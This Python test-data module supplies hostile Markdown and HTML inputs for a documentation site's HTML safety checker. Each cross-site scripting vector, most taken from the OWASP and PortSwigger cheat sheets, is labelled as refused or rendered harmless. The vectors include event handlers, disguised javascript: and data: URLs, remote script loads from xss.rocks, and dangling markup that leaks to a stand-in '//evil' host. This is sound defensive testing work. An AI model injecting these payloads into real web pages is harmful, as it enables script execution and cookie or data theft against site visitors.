"""Hostile or careless page content, as an editor could write it in a page's Markdown, grouped
by kind, each group with where it comes from.

Every input is either REFUSED (the HTML check reports at least one problem) or HARMLESS (Markdown
turns it into text or code, and the check accepts it). tests/test_html_safety.py asserts which,
and tests/test_html_safety_browser.py opens every HARMLESS one in Chromium.

The cheat-sheet vectors are transcribed from:
- OWASP: XSS Filter Evasion Cheat Sheet,
  https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
  (github.com/OWASP/CheatSheetSeries, cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.md)
- PortSwigger: Cross-site scripting (XSS) cheat sheet,
  https://portswigger.net/web-security/cross-site-scripting/cheat-sheet
  (its data: github.com/PortSwigger/xss-cheatsheet-data, json/<file>.json as named per group)
- the kinds that issue #13 measured against this site.
"""

from __future__ import annotations

from dataclasses import dataclass

REFUSED = "refused"
HARMLESS = "harmless"

OWASP = "OWASP XSS Filter Evasion Cheat Sheet"
PORTSWIGGER = "PortSwigger XSS cheat sheet"
ISSUE = "issue #13"


@dataclass(frozen=True)
class Hostile:
    kind: str
    source: str
    markdown: str
    expect: str  # REFUSED or HARMLESS

    @property
    def id(self) -> str:
        return f"{self.kind}: {self.markdown[:60]!r}"


@dataclass(frozen=True)
class Group:
    kind: str
    source: str
    inputs: tuple[tuple[str, str], ...]


def R(markdown: str) -> tuple[str, str]:  # noqa: N802 - short, so the data stays readable
    """An input the check must refuse."""
    return REFUSED, markdown


def H(markdown: str) -> tuple[str, str]:  # noqa: N802
    """An input that Markdown renders harmless (text or code), which the check accepts."""
    return HARMLESS, markdown


GROUPS = (
    # --- The kinds issue #13 measured (issue #13, "What we measured") ---------------------------
    # Attributes set with { … }: attr_guard.py marks them, the HTML check reports them.
    Group('attr_list', ISSUE, (
        R('[x](index.md){ onclick="alert(1)" }'),
        R('## Rubrik {#id onmouseover=alert(1)}'),
        R('## Rubrik {#id onmouseover="alert(1)"}'),
        R('Ett stycke.\n{: style="background:url(https://example.com/spion.png)" }'),
        R('[Till sidan](index.md){: href="https://example.com/elsewhere" }'),
        R('![Bild](bild.png){: src="https://example.com/x.png" }'),
        R('Text.\n{: onmouseover=alert(1) }'),
        R('- punkt\n{: onclick="alert(1)" }'),
        R('**fet**{: onmouseover="alert(1)" }'),
        R('[x](index.md){ ping="https://example.com/log" }'),
        R('[x](index.md){ target="_blank" }'),
        R('Text.\n{: .ok #fine data-x=1 }'),
        R('Text.\n{: ONCLICK="alert(1)" }'),
        R('Text.\n{: hidden }'),
        R('Text.\n{: contenteditable }'),
        H('```{ .html onclick="alert(1)" }\n<b>kod</b>\n```'),
        H('Text.\n{: .handbook-note }'),
        H('## Rubrik {#allowed-id .klass}'),
        H('Ett stycke som inte söks.\n{: data-search-exclude }'),
        H('`{: onclick=alert(1) }` visas som kod.'),
    )),
    Group('markup the source check missed', ISSUE, (
        R('<svg onload=alert(1)>'),
        R('<svg/onload=alert(1)>'),
        R('<div>\n<p\nonclick="alert(1)">text</p>\n</div>'),
        R('<div markdown>\n<span\n  onmouseover=alert(1)>text</span>\n</div>'),
        R('<base href="https://example.com/">'),
        R('<meta http-equiv="refresh" content="0; url=https://example.com/">'),
        R('<link rel=stylesheet href=https://example.com/x.css>'),
        R('<textarea>\n\nResten av sidan.'),
        R('<template>\n\nResten av sidan.'),
        R('<xmp>\n\nResten av sidan.'),
        R('<plaintext>\n\nResten av sidan.'),
        R('<noscript>\n\nResten av sidan.'),
        R('<noembed>\n\nResten av sidan.'),
        R('<iframe>\n\nResten av sidan.'),
        R('<title>\n\nResten av sidan.'),
        R('Text <textarea>i en mening, och resten av sidan.'),
    )),
    Group('script URL in disguise', ISSUE, (
        R('[x](&#106;avascript:alert(1))'),
        R('[x](javascript&colon;alert(1))'),
        R('[x](java&#9;script:alert(1))'),
        R('[x](JaVaScRiPt:alert(1))'),
        R('[x][ref]\n\n[ref]: javascript:alert(1)'),
        R('[x][data]\n\n[data]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='),
        R('![x][img]\n\n[img]: data:image/svg+xml;base64,PHN2Zz4='),
        R('<a href="java\nscript:alert(1)">x</a>'),
        R('<a href="jav&#x0A;ascript:alert(1)">x</a>'),
        R('[x](vbscript:msgbox(1))'),
        R('[x](<javascript:alert(1)>)'),
        R('[x](data:text/html,<script>alert(1)</script>)'),
        R('[x](//example.com/elsewhere)'),
        R('<a href="\\\\example.com/x">x</a>'),
        R('<a href="/\\example.com/x">x</a>'),
        H('`javascript:alert(1)` visas som kod.'),
        H('Ordet javascript: i löptext är bara text.'),
    )),
    Group('code-fence confusion', ISSUE, (
        R('   ```\n<script>alert(1)</script>'),
        R('```\nkod\n```\n<script>alert(1)</script>'),
        R('~~~\nkod\n~~~~\n\n<script>alert(1)</script>'),
        R('    ```\n\n<script>alert(1)</script>'),
        R('`kod` <script>alert(1)</script>'),
        R('``kod` <img src=x onerror=alert(1)>``x` <img src=y onerror=alert(1)>'),
        H('```html\n<script>alert(1)</script>\n```'),
        H('~~~\n<script>alert(1)</script>\n~~~'),
        H('    <script>alert(1)</script>'),
        H('`<script>alert(1)</script>`'),
        H('``<img src=x onerror=alert(1)>``'),
        H('```\n<textarea>\n```\n\nResten av sidan.'),
        H('- lista\n\n    ```html\n    <iframe src=https://example.com/></iframe>\n    ```'),
        R('\\<script>alert(1)\\</script>'),
        H('&lt;script&gt;alert(1)&lt;/script&gt;'),
        H('Text med 3 < 5 och 5 > 3 och a<b.'),
    )),
    Group('privacy: content from other websites', ISSUE, (
        R('![Bild](https://example.com/bild.png)'),
        R('![Bild](http://example.com/bild.png)'),
        R('![Bild](//example.com/bild.png)'),
        R('![Bild][fjärr]\n\n[fjärr]: https://example.com/bild.png'),
        R('<img src="https://example.com/bild.png" alt="x">'),
        R('<img src="bild.png" srcset="https://example.com/b.png 2x" alt="x">'),
        R('<video src="https://example.com/film.mp4"></video>'),
        R('<video><source src="https://example.com/film.mp4"></video>'),
        R('<audio src="https://example.com/ljud.mp3"></audio>'),
        R('<picture><source srcset="https://example.com/b.webp"><img src="bild.pn'
          'g" alt="x"></picture>'),
        R('<video src="film.mp4"><track src="https://example.com/t.vtt"></video>'),
        R('<a href="https://example.com/" ping="https://example.com/log">x</a>'),
        R('<p style="background:url(https://example.com/x.png)">x</p>'),
        R('<style>p { background: url(https://example.com/x.png) }</style>'),
        R('<video poster="https://example.com/p.png"></video>'),
        R('<img src="bild.png" alt="x" referrerpolicy="no-referrer">'),
        R('<pre class="mermaid">graph TD; A-->B</pre>'),
        R('graph TD; A-->B\n{: .mermaid }'),
        H('```mermaid\ngraph TD; A-->B\n```'),
        H('![Bild från webbplatsen](bild.png)'),
        H('![Bild](bilder/bild.jpg "titel")'),
        H('[Länk till en annan webbplats](https://example.com/)'),
    )),
    # Markdown escapes an unfinished tag in a paragraph (harmless text); inside a raw HTML block it
    # passes, and then swallows the page around it.
    Group('page frame: markup that breaks the page around the text', ISSUE, (
        H('<!-- en kommentar som aldrig stängs\n\nResten av sidan.'),
        R('<b>fet text som aldrig slutar'),
        R('<a href="https://example.com/">en länk som aldrig slutar'),
        R('<table><tr><td>en tabell som aldrig stängs'),
        R('</div>\n\nText utanför sidan.'),
        R('</article>\n\nText utanför sidan.'),
        R('</main>\n\nText utanför sidan.'),
        R('<body onload=alert(1)>'),
        R('<html onmouseover=alert(1)>'),
        H('<div class="x'),
        H('<p title="öppen'),
        R('<div>\n<!-- en kommentar som aldrig stängs\n</div>\n\nResten av sidan.'),
        R('<div>\n<img src="bild.png\n</div>'),
        R('<div>\n<a href="index.md\n</div>'),
        R('<div>\n<b>fet text som aldrig slutar\n</div>'),
        R('<div>\n<a href="https://example.com/">en länk som aldrig slutar\n</div>'),
        H('<!-- en kommentar som stängs -->'),
        H('<div markdown>\nText i ett block.\n</div>'),
        H('Tryck <kbd>Enter</kbd>.'),
        H('</p>'),
    )),
    # --- OWASP XSS Filter Evasion Cheat Sheet (sections "Tests" to "URL String Evasion") ---------
    # Several vectors come out of Markdown as text (it escapes tags it cannot read), or are dropped
    # by the HTML parser as Chromium drops them (<frameset> in a page): those are HARMLESS here.
    Group('OWASP: script and its disguises', OWASP, (
        R('<SCRIPT SRC=https://example.com/xss.js></SCRIPT>'),
        H('javascript:/*--></title></style></textarea></script></xmp>\n<svg/onload'
          '=\'+/"`/+/onmouseover=1/+/[*/[]/+alert(42);//\'>'),
        R('<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>'),
        R('<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>'),
        R('<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>'),
        R('<<SCRIPT>alert("XSS");//\\<</SCRIPT>'),
        R('<SCRIPT SRC=http://xss.rocks/xss.js?< B >'),
        R('<SCRIPT SRC=//xss.rocks/.j>'),
        R("</script><script>alert('XSS');</script>"),
        R('</TITLE><SCRIPT>alert("XSS");</SCRIPT>'),
        R('<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>'),
        R('<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>'),
        R('<SCRIPT "a=\'>\'" SRC="httx://xss.rocks/xss.js"></SCRIPT>'),
        R('<SCRIPT a=`>` SRC="httx://xss.rocks/xss.js"></SCRIPT>'),
        R('<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>'),
        H("<!--[if gte IE 4]>\n<SCRIPT>alert('XSS');</SCRIPT>\n<![endif]-->"),
    )),
    Group('OWASP: image and event handler vectors', OWASP, (
        R('<a onmouseover="alert(document.cookie)">xxs link</a>'),
        R('<a onmouseover=alert(document.cookie)>xxs link</a>'),
        R('<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>'),
        R('<IMG SRC=# onmouseover="alert(\'xxs\')">'),
        H('<IMG SRC= onmouseover="alert(\'xxs\')">'),
        R('<IMG onmouseover="alert(\'xxs\')">'),
        R('<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'),
        R('<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#000'
          '0099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0'
          '000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&'
          '#0000039&#0000041">'),
        R('<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58'
          ';&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>'),
        R('<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&'
          '#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>'),
        H('<IMG SRC="jav\tascript:alert(\'XSS\');">'),
        R('<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">'),
        R('<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">'),
        R('<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">'),
        R('<IMG SRC=" &#14;  javascript:alert(\'XSS\');">'),
        H('<IMG SRC=java\x00script:alert("XSS")>'),
        R('<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'),
        H('<IMG SRC="`<javascript:alert>`(\'XSS\')"'),
        H('<iframe src=http://xss.rocks/scriptlet.html <'),
        R('<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">'),
        R('<BODY BACKGROUND="javascript:alert(\'XSS\')">'),
        R('<IMG DYNSRC="javascript:alert(\'XSS\')">'),
        R('<IMG LOWSRC="javascript:alert(\'XSS\')">'),
        R('<IMG SRC=\'vbscript:msgbox("XSS")\'>'),
        R('<IMG SRC="livescript:[code]">'),
        H("<svg/onload=alert('XSS')>"),
        R("<BODY ONLOAD=alert('XSS')>"),
        R('<BGSOUND SRC="javascript:alert(\'XSS\');">'),
        R('<BR SIZE="&{alert(\'XSS\')}">'),
    )),
    Group('OWASP: style, meta, frames and embedding', OWASP, (
        R('<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">'),
        R('<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">'),
        R("<STYLE>@import'http://xss.rocks/xss.css';</STYLE>"),
        R('<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>'),
        R('<STYLE>@im\\port\'\\ja\\vasc\\ript:alert("XSS")\';</STYLE>'),
        R('<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">'),
        R('<STYLE>.XSS{background-image:url("javascript:alert(\'XSS\')");}</STYLE><'
          'A CLASS=XSS></A>'),
        R('<XSS STYLE="xss:expression(alert(\'XSS\'))">'),
        R('<XSS STYLE="behavior: url(xss.htc);">'),
        R('<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">'),
        R('<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcm'
          'lwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">'),
        R('<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(\'XSS\');">'),
        R('<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>'),
        R('<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>'),
        H('<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>'),
        R('<TABLE BACKGROUND="javascript:alert(\'XSS\')">'),
        R('<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">'),
        R('<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">'),
        R('<DIV STYLE="width: expression(alert(\'XSS\'));">'),
        R('<BASE HREF="javascript:alert(\'XSS\');//">'),
        R('<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>'),
        R('<EMBED SRC="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9z'
          'Y3JpcHQ+PC9zdmc+" type="image/svg+xml" AllowScriptAccess="always"></EM'
          'BED>'),
        R('<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>'),
        R('<SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>'),
        H('<A HREF="http://66.102.7.147/">XSS</A>'),
        H('<A HREF="http://%77%77%77%2E%67%6F%6F%67%6C%65%2E%63%6F%6D">XSS</A>'),
        H('<A HREF="http://1113982867/">XSS</A>'),
        H('<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>'),
    )),
    # --- PortSwigger XSS cheat sheet (its data repository, json/<file>.json) ---------------------
    # The URL-string-evasion links in the OWASP group above that are HARMLESS are ordinary http
    # links to other hosts written as IP, DWORD, hex or octal addresses: a reader who follows one
    # leaves the site, as with any link.
    Group('PortSwigger protocols (json/protocols.json)', PORTSWIGGER, (
        R('<iframe src="javascript:alert(1)">'),
        R('<a href="javascript:alert(1)">XSS</a>'),
        R('<a href="JaVaScript:alert(1)">XSS</a>'),
        R('<a href=" \tjavascript:alert(1)">XSS</a>'),
        H('<a href="javas\tcript:alert(1)">XSS</a>'),
        R('<a href="javascript\n:alert(1)">XSS</a>'),
        R('<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a>'),
        R('<svg><animate xlink:href=#xss attributeName=href values=javascript:ale'
          'rt(1) /><a id=xss><text x=20 y=20>XSS</text></a>'),
        R('<svg><set xlink:href=#x attributeName=href to=javascript:alert(1) /><a'
          ' id=x><text x=20 y=20>XSS</text></a>'),
        R('<script src="data:text/javascript,alert(1)"></script>'),
        R('<svg><script href="data:text/javascript,alert(1)" />'),
        R('<math><x href="javascript:alert(1)">blah'),
        R('<form><button formaction=javascript:alert(1)>XSS'),
        R('<form><input type=submit formaction=javascript:alert(1) value=XSS>'),
        R('<form action=javascript:alert(1)><input type=submit value=XSS>'),
        R('<embed code=https://portswigger-labs.net width=500 height=500 type=text/html>'),
        R('<object width=500 height=500 type=text/html><param name=url value=http'
          's://portswigger-labs.net>'),
    )),
    Group('PortSwigger encodings (json/encodings.json)', PORTSWIGGER, (
        R('<script>\\u0061lert(1)</script>'),
        R("<script>eval('\\x61lert(1)')</script>"),
        R('<a href="&#106;avascript:alert(1)">XSS</a>'),
        R('<a href="&#106avascript:alert(1)">XSS</a>'),
        R('<svg><script>&#97;lert(1)</script></svg>'),
        R('<a href="&#0000106avascript:alert(1)">XSS</a>'),
        R('<a href="&#x6a;avascript:alert(1)">XSS</a>'),
        R('<a href="j&#x61vascript:alert(1)">XSS</a>'),
        R('<a href="&#x6a\navascript:alert(1)">XSS</a>'),
        R('<a href="&#x0000006a;avascript:alert(1)">XSS</a>'),
        R('<a href="&#X6A;avascript:alert(1)">XSS</a>'),
        R('<a href="javascript&colon;alert(1)">XSS</a>'),
        R('<a href="java&Tab;script:alert(1)">XSS</a>'),
        R('<a href="java&NewLine;script:alert(1)">XSS</a>'),
        R('<a href="javascript&colon;alert&lpar;1&rpar;">XSS</a>'),
        R('<a href="javascript:x=\'%27-alert(1)-%27\';">XSS</a>'),
        H('%C0%BCscript>alert(1)</script>'),
    )),
    Group('PortSwigger consuming tags (json/consuming_tags.json)', PORTSWIGGER, (
        R('<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>'),
        R('<noscript><img title="</noscript><img src onerror=alert(1)>"></noscript>'),
        R('<style><img title="</style><img src onerror=alert(1)>"></style>'),
        R('<script><img title="</script><img src onerror=alert(1)>"></script>'),
        R('<iframe><img title="</iframe><img src onerror=alert(1)>"></iframe>'),
        R('<xmp><img title="</xmp><img src onerror=alert(1)>"></xmp>'),
        R('<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>'),
        R('<noframes><img title="</noframes><img src onerror=alert(1)>"></noframes>'),
        R('<title><img title="</title><img src onerror=alert(1)>"></title>'),
    )),
    Group('PortSwigger dangling markup (json/dangling_markup.json)', PORTSWIGGER, (
        H('<body background="//evil?'),
        H('<table background="//evil?'),
        H('<link rel=stylesheet href="//evil?'),
        H('<link rel=icon href="//evil?'),
        H('<meta http-equiv="refresh" content="0; http://evil?'),
        H('<img src="//evil?'),
        H('<image src="//evil?'),
        R('<video><track default src="//evil?'),
        R('<video><source src="//evil?'),
        R('<audio><source src="//evil?'),
        H('<input type=image src="//evil?'),
        R('<form><button style="width:100%;height:100%" type=submit formaction="//evil?'),
        H('<object data="//evil?'),
        H('<iframe src="//evil?'),
        H('<embed src="//evil?'),
        R('<form><button formaction=//evil>XSS</button><textarea name=x>'),
        R("<button form=x>XSS</button><form id=x action=//evil target='"),
        R('<a href=https://example.com/><font size=100 color=red>You must click m'
          'e</font></a><base target="'),
        R('<a href=abc style="width:100%;height:100%;position:absolute;font-size:'
          '1000px;">xss<base href="//evil/'),
        H('<video poster="//evil?'),
        H('<input type=hidden type=image src="//evil?'),
    )),
    Group('PortSwigger obfuscation and special tags (json/obfuscation.json, json/special_tags.json)',
          PORTSWIGGER, (
        R('<script src=data:text/javascript;base64,YWxlcnQoMSk=></script>'),
        R('<iframe srcdoc=&lt;script&gt;alert&lpar;1&rpar;&lt;&sol;script&gt;></iframe>'),
        H('<img src=x onerror=location=atob`amF2YXNjcmlwdDphbGVydChkb2N1bWVudC5kb21haW4p`>'),
        R('<meta http-equiv="refresh" content="0; url=//portswigger-labs.net">'),
        R('<meta charset="UTF-7" /> +ADw-script+AD4-alert(1)+ADw-/script+AD4-'),
        R('<meta http-equiv="Content-Security-Policy" content="upgrade-insecure-requests">'),
        R('<iframe sandbox src="//portswigger-labs.net"></iframe>'),
        R('<meta name="referrer" content="no-referrer">'),
        H('+ADw-script+AD4-alert(1)+ADw-/script+AD4-'),
    )),
    Group('PortSwigger useful tags (json/useful_tags.json)', PORTSWIGGER, (
        R('<iframe srcdoc="<img src=1 onerror=alert(1)>"></iframe>'),
        R('<iframe srcdoc="&lt;img src=1 onerror=alert(1)&gt;"></iframe>'),
        R('<form action="javascript:alert(1)"><input type=submit id=x></form><lab'
          'el for=x>XSS</label>'),
        R('<input type="hidden" accesskey="X" onclick="alert(1)">'),
        R('<link rel="canonical" accesskey="X" onclick="alert(1)" />'),
        R('<a href=# download="filename.html">Test</a>'),
        R('<img referrerpolicy="no-referrer" src="//portswigger-labs.net">'),
        R('<base target="alert(1)"><a href="https://example.com/">XSS via target in base tag</a>'),
        R('<a target="alert(1)" href="https://example.com/">XSS via target in a tag</a>'),
        R('<img src="validimage.png" width="10" height="10" usemap="#xss"><map na'
          'me="xss"><area shape="rect" coords="0,0,82,126" target="alert(1)" href'
          '="https://example.com/"></map>'),
    )),
    Group('PortSwigger polyglots (json/polyglot.json)', PORTSWIGGER, (
        H('javascript:/*--></title></style></textarea></script></xmp><svg/onload='
          '\'+/"/+/onmouseover=1/+/[*/[]/+alert(1)//\'>'),
        H('javascript:"/*\'/*`/*--></noscript></title></textarea></style></templat'
          'e></noembed></script><html \\"\n onmouseover=/*&lt;svg/*/onload=alert()/'
          '/>'),
        H('javascript:/*--></title></style></textarea></script></xmp><details/ope'
          'n/ontoggle=\'+/`/+/"/+/onmouseover=1/+/[*/[]/+alert(/@PortSwiggerRes/)/'
          "/'>"),
    )),
    # Where the cheat sheet says any tag (<*>), the tags used here are ones the allowlist permits,
    # so that only the handler makes them unsafe. <td> outside a table is dropped by the parser.
    Group('PortSwigger event handlers (json/events.json)', PORTSWIGGER, (
        R('<body onafterprint=alert(1)>'),
        R('<span style="animation-name:x" onanimationend="alert(1)"></span>'),
        R('<p style="animation-name:x" onanimationstart="alert(1)">x</p>'),
        R('<input onauxclick=alert(1)>'),
        R('<kbd contenteditable onbeforeinput=alert(1)>test</kbd>'),
        R('<div id=x onbeforematch=alert(1) hidden=until-found>x</div>'),
        R('<p onblur=alert(1) id=x tabindex=1 style=display:block>test</p>'),
        R('<video oncanplay=alert(1)><source src="validvideo.mp4" type="video/mp4"></video>'),
        R('<a onclick="alert(1)" style=display:block>test</a>'),
        R('<dialog open onclose=alert(1)><form method=dialog><button>XSS</button></form>'),
        R('<abbr oncontextmenu="alert(1)" style=display:block>test</abbr>'),
        R('<sup oncopy=alert(1) tabindex=1>test</sup>'),
        R('<strong ondblclick="alert(1)" tabindex=1>test</strong>'),
        R('<em draggable="true" ondragstart="alert(1)">test</em>'),
        R('<body onerror=alert(1) onload=/>'),
        R('<input autofocus onfocus=alert(1)>'),
        R('<h2 onfocus=alert(1) autofocus tabindex=1>Rubrik</h2>'),
        R('<code onfocusout=alert(1) autofocus tabindex=1>test</code>'),
        R('<body onhashchange="print()">'),
        R('<li onkeydown="alert(1)" contenteditable>test</li>'),
        R('<body onload=alert(1)>'),
        H('<td onmousedown="alert(1)">test</td>'),
        R('<table><tr><td onmouseenter="alert(1)">test</td></tr></table>'),
        R('<del onmouseover="alert(1)">test</del>'),
        R('<sub onpointerdown=alert(1)>XSS</sub>'),
        R('<body onpageshow=alert(1)>'),
        R('<body onresize="print()">'),
        R('<blockquote onscrollend=alert(1) style="overflow:auto;height:10px"><br'
          '><br><br></blockquote>'),
        R('<form onsubmit=alert(1)><input type=submit>'),
        R('<details ontoggle=alert(1) open>test</details>'),
        R('<summary ontoggle=alert(1) popover id=x>XSS</summary>'),
        R('<dt id=x style="transition:outline 1s" ontransitionend=alert(1) tabindex=1></dt>'),
        R('<svg onunload=alert(1)>'),
        R('<svg><animate onbegin=alert(1) attributeName=x dur=1s>'),
        R('x<template shadowrootmode=open><slot onslotchange=alert(1)>'),
        R('<body onwheel=alert(1)>'),
        R('<img src=bild.png onload=alert(1) alt=x>'),
        R('<img src=x onerror=alert(1)>'),
    )),
)

def inputs() -> list[Hostile]:
    return [Hostile(group.kind, group.source, text, expect)
            for group in GROUPS for expect, text in group.inputs]
